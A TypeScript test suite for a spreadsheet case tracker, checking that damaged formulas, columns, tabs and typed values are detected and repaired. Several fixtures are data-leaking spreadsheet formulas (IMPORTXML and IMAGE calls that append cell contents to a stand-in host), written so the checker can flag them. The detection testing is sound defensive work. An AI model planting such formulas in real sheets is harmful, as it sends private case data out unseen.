import type { FindingKind } from '../../src/app/check/finding';
import { checkSheet, type SheetReport } from '../../src/app/checkSheet';
import { logCall, type NewCall } from '../../src/app/logCall';
import { mendSheet } from '../../src/app/mendSheet';
import { setUpTracker } from '../../src/app/setUpTracker';
import { type CivilDateTime, civilDate, toSerial } from '../../src/domain/civilDate';
import type { CellInput } from '../../src/tables/cell';
import { firstRow } from '../../src/tables/defineTable';
import { declaredColumn } from '../../src/tables/places';
import type { ColumnKey, TableKey } from '../../src/tables/tableKey';
import { TABLES } from '../../src/tables/tables';
import { MemoryWorld } from '../support/memoryWorld';
import { type MendedWhole, mendWhole } from '../support/mendWhole';
import { widenedFormula } from '../support/movedFormula';
import { makeTablesSmall } from '../support/smallTables';
import { GROUP, sheetOfTable, stoppedAnywhere, tableRows, withoutActivity } from '../support/trackers';
import { typeCall, typeRow } from '../support/typedRows';

beforeAll(makeTablesSmall);

const TODAY = toSerial(civilDate('2026-03-10'));
const CALL: NewCall = {
  id: 'call-0001',
  caseCode: 'C-001',
  tabId: null,
  when: '2026-03-10 09:15' as CivilDateTime,
  caller: 'Mari',
  target: null,
  numberDialled: null,
  outcome: 'No answer or busy',
  howMany: null,
  language: null,
  note: null,
  followUpOn: null,
};

/** Two cases, a date, somebody to call, and the first call of C-001. */
function makeWorld(): MemoryWorld {
  const world = new MemoryWorld();
  world.done((ports) => setUpTracker(ports, { ...GROUP, sharingCheckedBy: 'Ana' }));
  typeRow(world, 'cases', 1, { code: 'C-001', alias: 'Rosa', stage: 'Active' });
  typeRow(world, 'cases', 2, { code: 'C-002', alias: 'Luis', stage: 'Intake' });
  typeRow(world, 'dates', 1, { id: 'D-0001', case: 'C-001', date: TODAY + 5, kind: 'Check-in' });
  typeRow(world, 'targets', 1, { code: 'T-01', office: 'Field office', lastVerified: TODAY - 1 });
  world.done((ports) => logCall(ports, CALL));
  return world;
}
let kept: MemoryWorld | undefined;
const tracker = () => {
  kept ??= makeWorld();
  return kept.clone();
};
const report = (world: MemoryWorld): SheetReport => world.done(checkSheet);
const kindsOf = ({ findings }: SheetReport) => findings.map(({ kind }) => kind);
const mendAll = (world: MemoryWorld): MendedWhole =>
  world.done((ports) => mendWhole(ports, { ids: 'all', who: 'Ana' }));
const column = (table: TableKey, key: ColumnKey) => declaredColumn(table, key);
const FIRST = firstRow(TABLES.cases);

/** Deletes a column with all that is in it, and what referred to it fails, as at Google. */
function deleteColumn(world: MemoryWorld, table: TableKey, key: ColumnKey) {
  const sheet = sheetOfTable(world, table);
  const at = (sheet.cells[0] ?? []).indexOf(key);
  for (const row of sheet.cells) row.splice(at, 1);
  sheet.columns -= 1;
  // References to what stands further right move along.
  const place = { name: sheet.name, before: at + 2, count: -1 };
  for (const other of world.file.sheets) {
    for (const row of other.cells) {
      row.forEach((cell, index) => {
        if (cell === null || typeof cell !== 'object') return;
        row[index] = { formula: widenedFormula(cell.formula, { ...place, isOwn: other === sheet }) };
      });
    }
  }
}

interface Misuse {
  readonly name: string;
  readonly kind: FindingKind;
  readonly harm: (world: MemoryWorld) => void;
  /** True where the file is, but for Activity and notes, what it was before. */
  readonly isUndone?: boolean;
  readonly after?: (world: MemoryWorld, before: MemoryWorld) => void;
}

const over =
  (table: TableKey, cells: Record<string, CellInput>, record = 1) =>
  (world: MemoryWorld) =>
    typeRow(world, table, record, cells);

const MISUSES: readonly Misuse[] = [
  { name: 'a formula deleted', kind: 'formulaGone', harm: over('cases', { urgency: null }), isUndone: true },
  {
    name: 'a formula typed over',
    kind: 'formulaGone',
    harm: over('cases', { urgency: 'calm' }),
    isUndone: true,
    after: (world) => {
      const notes = Object.values(sheetOfTable(world, 'cases').notes ?? {});
      expect(notes).toEqual([expect.stringContaining('calm')]);
    },
  },
  {
    name: 'a formula changed',
    kind: 'formulaChanged',
    harm: over('cases', { datesCheck: { formula: 'TODAY()' } }),
    isUndone: true,
  },
  {
    name: 'the whole column changed',
    kind: 'formulaChanged',
    harm: (world) => {
      for (let record = 1; record <= 12; record++)
        over('dates', { caseRow: { formula: '1' } }, record)(world);
    },
    isUndone: true,
  },
  {
    name: 'formulas that an empty row lost',
    kind: 'rowsBare',
    harm: over('cases', { urgency: null, daysLeft: null }, 7),
    isUndone: true,
  },
  {
    name: 'a total above a log typed over',
    kind: 'bandFormulaGone',
    harm: (world) => world.file.type('Calls C-001', { row: 4, column: 1 }, 7),
    isUndone: true,
  },
  {
    name: 'a formula of the Dashboard changed',
    kind: 'bandFormulaChanged',
    harm: (world) => {
      const sheet = sheetOfTable(world, 'dashboard');
      const row = sheet.cells.findIndex((cells) => cells.some((cell) => typeof cell === 'object' && cell));
      const at = sheet.cells[row]?.findIndex((cell) => typeof cell === 'object' && cell) ?? 0;
      world.file.type(sheet.name, { row: row + 1, column: at + 1 }, { formula: '1+1' });
    },
    isUndone: true,
  },
  {
    name: 'a link to a log deleted',
    kind: 'formulaGone',
    harm: over('cases', { attemptsToday: null }),
    isUndone: true,
  },
  {
    name: 'a key deleted',
    kind: 'columnMissing',
    harm: (world) => world.file.type('Dates', { row: 1, column: column('dates', 'place') }, null),
    isUndone: true,
  },
  {
    name: 'the keys deleted',
    kind: 'keyRowGone',
    harm: (world) => void sheetOfTable(world, 'targets').cells[0]?.fill(null),
    isUndone: true,
  },
  {
    name: 'the key row deleted',
    kind: 'keyRowGone',
    harm: (world) => void sheetOfTable(world, 'activity').cells.shift(),
    isUndone: true,
  },
  {
    name: 'a column of people’s own words deleted',
    kind: 'columnMissing',
    harm: (world) => deleteColumn(world, 'cases', 'notes'),
    isUndone: true,
  },
  {
    name: 'a computed column deleted',
    kind: 'columnMissing',
    harm: (world) => deleteColumn(world, 'cases', 'urgency'),
    isUndone: true,
  },
  {
    name: 'a tab deleted',
    kind: 'tabMissing',
    harm: (world) => world.file.deleteTab('Shifts'),
    after: (world) => expect(sheetOfTable(world, 'shifts').name).toBe('Shifts'),
  },
  ...(['dashboard', 'dates', 'calls', 'activity'] as const).map(
    (table): Misuse => ({
      name: `the tab of ${table} deleted`,
      kind: 'tabMissing',
      harm: (world) => world.file.deleteTab(sheetOfTable(world, table).name),
      after: (world, before) =>
        expect(sheetOfTable(world, table).cells[0]).toEqual(sheetOfTable(before, table).cells[0]),
    }),
  ),
  {
    name: 'the tab of Settings deleted',
    kind: 'tabMissing',
    harm: (world) => world.file.deleteTab('Settings'),
    after: (world) => expect(tableRows(world, 'settings')[0]?.schemaVersion).toBe(2),
  },
  {
    name: 'a row without its code',
    kind: 'codeMissing',
    harm: over('cases', { alias: 'Bo' }, 3),
    after: (world) => expect(tableRows(world, 'cases')[2]).toMatchObject({ code: 'C-003', alias: 'Bo' }),
  },
  {
    name: 'a date without its code',
    kind: 'idMissing',
    harm: over('dates', { case: 'C-002', date: TODAY + 9, kind: 'Bond hearing' }, 2),
    after: (world) => expect(tableRows(world, 'dates')[1]).toMatchObject({ id: 'D-0002', case: 'C-002' }),
  },
  {
    name: 'a code that stands there twice',
    kind: 'codeDoubled',
    harm: over('cases', { code: 'c-002 ', alias: 'Bo' }, 3),
    after: (world) =>
      expect(tableRows(world, 'cases').map(({ code }) => code)).toEqual(['C-001', 'C-002', 'C-003']),
  },
  {
    name: 'a day in words',
    kind: 'dateUnreadable',
    harm: over('cases', { detainedSince: 'March 4, 2026' }),
    after: (world) =>
      expect(tableRows(world, 'cases')[0]?.detainedSince).toBe(toSerial(civilDate('2026-03-04'))),
  },
  {
    name: 'a time of day in words',
    kind: 'timeUnreadable',
    harm: over('targets', { hoursFrom: '9:30 am' }),
    after: (world) => expect(tableRows(world, 'targets')[0]?.hoursFrom).toBeCloseTo(9.5 / 24),
  },
  {
    name: 'a number as text',
    kind: 'numberUnreadable',
    harm: over('cases', { goal: '1,200' }),
    after: (world) => expect(tableRows(world, 'cases')[0]?.goal).toBe(1200),
  },
  {
    name: 'an everyday word for a choice',
    kind: 'valueUnknown',
    harm: over('cases', { detainedSince: TODAY - 9, custody: 'in custody' }),
    after: (world) => expect(tableRows(world, 'cases')[0]?.custody).toBe('Detained'),
  },
  {
    name: 'when a call was, in words',
    kind: 'callUntimed',
    harm: (world) =>
      typeCall(world, 'C-001', 2, { when: '3/9/2026 2:05 pm', outcome: 'spoke', id: 'call-0002' }),
  },
  {
    name: 'a formula in a cell of words',
    kind: 'formulaTyped',
    harm: over('cases', { notes: { formula: 'IMPORTXML("https://x.example/"&B3,"//a")' } }),
    after: (world) =>
      expect(tableRows(world, 'cases')[0]?.notes).toBe('=IMPORTXML("https://x.example/"&B3,"//a")'),
  },
  {
    name: 'a formula in a cell of days',
    kind: 'formulaTyped',
    harm: over('cases', { detainedSince: { formula: 'TODAY()' } }),
    after: (world) => expect(tableRows(world, 'cases')[0]?.detainedSince).toBe(TODAY),
  },
  {
    name: 'a log that Cases lost',
    kind: 'logUnlinked',
    harm: (world) => {
      typeRow(world, 'cases', 1, { callsTab: null });
    },
    isUndone: true,
  },
  {
    name: 'a log that is gone',
    kind: 'logGone',
    harm: (world) => world.file.deleteTab('Calls C-001'),
    after: (world) => expect(tableRows(world, 'cases')[0]).not.toHaveProperty('callsTab'),
  },
  {
    name: 'a validation that reaches out',
    kind: 'ruleSends',
    harm: (world) => {
      const formula = 'IMPORTXML("https://x.example/"&A1,"//a")=1';
      sheetOfTable(world, 'cases').rules = [{ kind: 'validation', row: 4, column: 2, formula }];
    },
  },
  {
    name: 'a dropdown that pasting took along',
    kind: 'dropdownGone',
    harm: (world) => {
      sheetOfTable(world, 'cases').withoutDropdown = [`${FIRST},${column('cases', 'stage')}`];
    },
  },
  {
    name: 'another zone',
    kind: 'zoneChanged',
    harm: (world) => {
      world.file.zone = 'America/Chicago';
    },
    after: (world) => expect(tableRows(world, 'settings')[0]?.madeInZone).toBe('America/Chicago'),
  },
  {
    name: 'another locale',
    kind: 'localeChanged',
    harm: (world) => {
      world.file.locale = 'es_MX';
    },
  },
];

const plain = ({ file }: MemoryWorld) =>
  withoutActivity(file.snapshot()).map(({ notes: _, rules: __, withoutDropdown: ___, ...sheet }) => sheet);

describe('[F4] what is found is mended when somebody asks, and not before', () => {
  it('is in order to begin with', () => {
    expect(kindsOf(report(tracker()))).toEqual([]);
  });

  it.each(MISUSES.map((misuse) => [misuse.name, misuse] as const))(
    '%s',
    (_, { kind, harm, isUndone, after }) => {
      const before = tracker();
      const world = tracker();
      harm(world);
      const harmed = world.file.snapshot();
      const found = report(world).findings.filter((finding) => finding.kind === kind);
      expect(found.length).toBeGreaterThan(0);
      expect(found.every(({ mend }) => mend !== null)).toBe(true);
      expect(world.file.snapshot()).toEqual(harmed);
      const { done, report: now } = mendAll(world);
      expect(done).toContain(found[0]?.mend?.says);
      expect(kindsOf(now).filter((one) => one !== 'sharingDue')).toEqual([]);
      expect(report(world)).toEqual(now);
      if (isUndone) expect(plain(world)).toEqual(plain(before));
      after?.(world, before);
    },
  );
});

describe('only what was shown and asked for', () => {
  const idsOf = (world: MemoryWorld) => report(world).findings.flatMap(({ mend }) => mend?.id ?? []);

  it('is done; the rest stays found', () => {
    const world = tracker();
    typeRow(world, 'cases', 1, { urgency: 'calm', goal: '40' });
    const goal = report(world).findings.find(({ kind }) => kind === 'numberUnreadable');
    const {
      done,
      passedOver,
      report: now,
    } = world.done((ports) => mendWhole(ports, { ids: [goal?.mend?.id ?? ''], who: null }));
    expect([done.length, passedOver, kindsOf(now)]).toEqual([1, 0, ['formulaGone']]);
    expect(tableRows(world, 'cases')[0]).toMatchObject({ goal: 40, urgency: 'calm' });
  });

  it('is left alone when something else stands there meanwhile', () => {
    const world = tracker();
    typeRow(world, 'cases', 3, { alias: 'Bo' });
    const ids = idsOf(world);
    typeRow(world, 'cases', 3, { code: 'C-003' });
    typeRow(world, 'cases', 4, { alias: 'Di' });
    const before = world.file.snapshot();
    const { done, passedOver } = world.done((ports) => mendWhole(ports, { ids, who: null }));
    expect([done, passedOver]).toEqual([[], 1]);
    expect(world.file.snapshot()).toEqual(before);
  });

  it('is noted without a word of what it was (S6), and a note keeps no A-number (P5)', () => {
    const world = tracker();
    typeRow(world, 'cases', 1, { urgency: 'ask about A 087-654-321' });
    mendAll(world);
    const rows = tableRows(world, 'activity');
    expect(rows[rows.length - 1]).toMatchObject({ who: 'Ana', what: 'mended the Sheet: 1 thing' });
    expect(JSON.stringify([rows, sheetOfTable(world, 'cases').notes])).not.toContain('654');
  });
});

describe('[S5] a mend that was stopped anywhere', () => {
  it.each([
    [
      'formulas and words',
      (world: MemoryWorld) => typeRow(world, 'cases', 1, { urgency: 'calm', goal: '40' }),
      13,
    ],
    ['a column', (world: MemoryWorld) => deleteColumn(world, 'cases', 'notes'), 29],
    ['a tab', (world: MemoryWorld) => world.file.deleteTab('Shifts'), 37],
  ] as const)('is completed by the next: %s', (_, harm, every) => {
    const start = tracker();
    harm(start);
    const work = (ports: Parameters<typeof mendWhole>[0]) => mendWhole(ports, { ids: 'all', who: null });
    const whole = start.clone();
    whole.done(work);
    for (const { world, stopAfter } of stoppedAnywhere(start, work, { every })) {
      expect([stopAfter, kindsOf(report(world))]).toEqual([stopAfter, []]);
      expect(plain(world).map(({ name, cells }) => [name, cells])).toEqual(
        plain(whole).map(({ name, cells }) => [name, cells]),
      );
    }
  });
});

describe('a mend of many tabs', () => {
  it('goes on from execution to execution, each of them short, and says once what is done', () => {
    const world = tracker();
    for (let number = 3; number <= 18; number++) {
      const caseCode = `C-${String(number).padStart(3, '0')}`;
      typeRow(world, 'cases', Math.min(number, 12), { code: caseCode, callsTab: null });
      world.done((ports) => logCall(ports, { ...CALL, id: `call-${number}-long`, caseCode }));
    }
    const logs = world.file.sheets.filter(({ tag, id }) => tag?.table === 'calls' && tag.id !== id);
    for (const { name } of logs) world.file.type(name, { row: 4, column: 1 }, 7);
    const first = world.run((ports) => mendSheet(ports, { ids: 'all', who: null }));
    expect(first.value?.goOn).not.toBeNull();
    expect(first.calls).toBeLessThan(300);
    const left = world.done((ports) =>
      mendSheet(ports, { ids: 'all', who: null, goOn: first.value?.goOn ?? null }),
    );
    expect([left.done, left.goOn]).toEqual([[], null]);
    for (const { cells } of logs) expect(cells[3]?.[0]).toEqual({ formula: expect.any(String) });
  });
});

describe('what people have to judge is explained', () => {
  it('[S3] formulas in tabs of their own, hidden or not, when they can send something out', () => {
    const world = tracker();
    world.file.addTab('Scratch').cells[2]?.splice(1, 1, { formula: 'IMAGE("https://x.example/"&Cases!B3)' });
    world.file.addTab('Sums').cells[0]?.splice(0, 1, { formula: 'SUM(1,2)' });
    Object.assign(world.file.byName('Scratch'), { hidden: true });
    const { findings } = report(world);
    expect(findings.map(({ kind, tab, row, mend }) => [kind, tab, row, mend])).toEqual([
      ['formulaSends', 'Scratch', 3, null],
    ]);
    expect(JSON.stringify(findings)).not.toContain('example');
  });

  it('a copy of the file: taken as their own, and who can open it is asked anew', () => {
    const world = tracker();
    world.file.id = 'file-2';
    expect(kindsOf(report(world))).toEqual(['copied']);
    expect(kindsOf(mendAll(world).report)).toEqual(['sharingDue']);
    expect(tableRows(world, 'settings')[0]).toMatchObject({ madeIn: 'file-2' });
    expect(tableRows(world, 'settings')[0]).not.toHaveProperty('sharingCheckedBy');
  });

  it('[F2] formulas that stand there as their own text are written with the separator that the Sheet takes', () => {
    const world = new MemoryWorld({ locale: 'es_ES', separators: [';'] });
    world.done((ports) => setUpTracker(ports, { ...GROUP, language: 'es', sharingCheckedBy: 'Ana' }));
    const before = world.file.snapshot();
    const sheet = sheetOfTable(world, 'cases');
    sheet.cells = sheet.cells.map((row) =>
      row.map((cell) => (typeof cell === 'object' && cell ? `=${cell.formula.replaceAll(';', ',')}` : cell)),
    );
    mendAll(world);
    expect(withoutActivity(world.file.snapshot())).toEqual(withoutActivity(before));
  });

  it('a tracker of a newer Casebook: nothing else is said, nothing is touched', () => {
    const world = tracker();
    typeRow(world, 'settings', 1, { schemaVersion: 3 });
    typeRow(world, 'cases', 1, { urgency: 'calm', goal: '40' });
    const before = world.file.snapshot();
    expect(report(world).findings.map(({ kind, mend }) => [kind, mend])).toEqual([['newer', null]]);
    expect(mendAll(world).done).toEqual([]);
    expect(world.file.snapshot()).toEqual(before);
  });

  it('words that nobody can be sure of', () => {
    const world = tracker();
    typeRow(world, 'cases', 1, { detainedSince: 'last spring', goal: 'many' });
    typeRow(world, 'dates', 1, { case: 'C-099' });
    const { findings } = report(world);
    expect(findings.map(({ kind, mend }) => [kind, mend])).toEqual([
      ['dateUnreadable', null],
      ['numberUnreadable', null],
      ['caseUnknown', null],
    ]);
    expect(mendAll(world).done).toEqual([]);
  });
});
